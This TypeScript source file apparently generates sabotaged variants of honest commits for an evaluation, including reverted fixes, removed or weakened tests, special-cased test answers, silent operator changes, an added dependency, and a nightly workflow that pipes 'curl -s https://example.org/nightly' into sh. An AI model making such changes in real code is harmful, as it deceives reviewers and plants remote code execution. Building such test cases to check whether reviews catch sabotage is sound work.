import { isSource, isTest } from "../projects/project.ts";
import type { Case } from "./case.ts";
import { addedLines } from "./changed-lines.ts";
import { specialCase } from "./special-case.ts";
import { fewOf, tokenEdits } from "./token-edits.ts";
import { weakenings } from "./weaken.ts";

/** How an honest commit is spoiled. Says what was done; null where it cannot be done here, and nothing was shown. */
export type Sabotage = (one: Case) => Promise<string | null>;

const TRIES = 8;

/** All leave the project's own suite green but for the first, whose tests say that something is missing. */
export const SABOTAGES: Record<string, Sabotage> = {
  /** Tests of a fix that is not there. */
  "fix-reverted": async (one) => {
    one.putBack(one.commit.sources);
    return (await one.isGreen()) ? null : "the code is as before, the tests are not";
  },
  /** A fix that nothing shows. */
  "tests-removed": async (one) => {
    one.putBack(one.commit.tests);
    return (await one.isGreen()) ? "the tests are as before, the code is not" : null;
  },
  "special-cased": async (one) => {
    if (!(await specialCase(one))) return null;
    return (await one.isGreen()) ? "the old code, with the answers to the tests' questions" : null;
  },
  "old-test-weakened": async (one) => {
    const touched = addedLines(one.copy, one.base, one.commit.hash, one.commit.tests);
    const old = one.commit.tests.filter((path) => one.before(path) !== null);
    for (const path of [...old, ...one.tracked().filter((other) => isTest(other) && !old.includes(other))]) {
      const text = one.read(path);
      if (text === null) continue;
      for (const { line, text: loose } of fewOf(await weakenings(path, text, touched.get(path) ?? new Set()), 3)) {
        one.put({ path, content: loose });
        if (await one.isGreen()) return `${path}:${line} says next to nothing`;
      }
      one.put({ path, content: text });
    }
    return null;
  },
  "operator-changed": async (one) => {
    const lines = addedLines(one.copy, one.base, one.commit.hash, one.commit.sources);
    return changeToken(one, one.commit.sources, (path) => lines.get(path) ?? new Set());
  },
  "extra-same-file": async (one) => {
    const touched = addedLines(one.copy, one.base, one.commit.hash, one.commit.sources);
    return changeToken(one, one.commit.sources, null, touched);
  },
  "extra-second-file": async (one) => {
    const others = one.tracked().filter((path) => isSource(path) && !one.commit.sources.includes(path));
    return changeToken(one, others.slice(0, TRIES), null);
  },
  "extra-workflow": async (one) => {
    const path = ".github/workflows/nightly.yml";
    const content =
      "on: schedule\njobs:\n  nightly:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://example.org/nightly | sh\n";
    one.put({ path, content });
    return `${path} runs what it downloads`;
  },
  "extra-dependency": async (one) => {
    const path = one.project.language === "javascript" ? "package.json" : "requirements.txt";
    const text = one.read(path) ?? "";
    const content =
      path === "package.json"
        ? `${JSON.stringify({ ...JSON.parse(text), dependencies: { ...JSON.parse(text).dependencies, "left-padding": "^1.0.0" } }, null, 2)}\n`
        : `${text}left-padding==1.0\n`;
    one.put({ path, content });
    return `${path} asks for another package`;
  },
};

/** The first token whose change no test of the project notices. It may be one that changes nothing: read what is told. */
async function changeToken(
  one: Case,
  paths: string[],
  within: ((path: string) => Set<number>) | null,
  outside = new Map<string, Set<number>>(),
): Promise<string | null> {
  const edits = [];
  for (const path of paths) {
    const text = one.read(path);
    if (text === null) continue;
    const all = await tokenEdits(path, text, within?.(path));
    const free = all.filter(({ line }) => !outside.get(path)?.has(line));
    edits.push(...free.map((edit) => ({ ...edit, path, old: text })));
  }
  for (const { path, text, old, line, before, after } of fewOf(edits, TRIES)) {
    one.put({ path, content: text });
    if (await one.isGreen())
      return `${path}:${line} ${before} → ${after}: ${old.split("\n")[line - 1]?.trim().slice(0, 100)}`;
    one.put({ path, content: old });
  }
  return null;
}
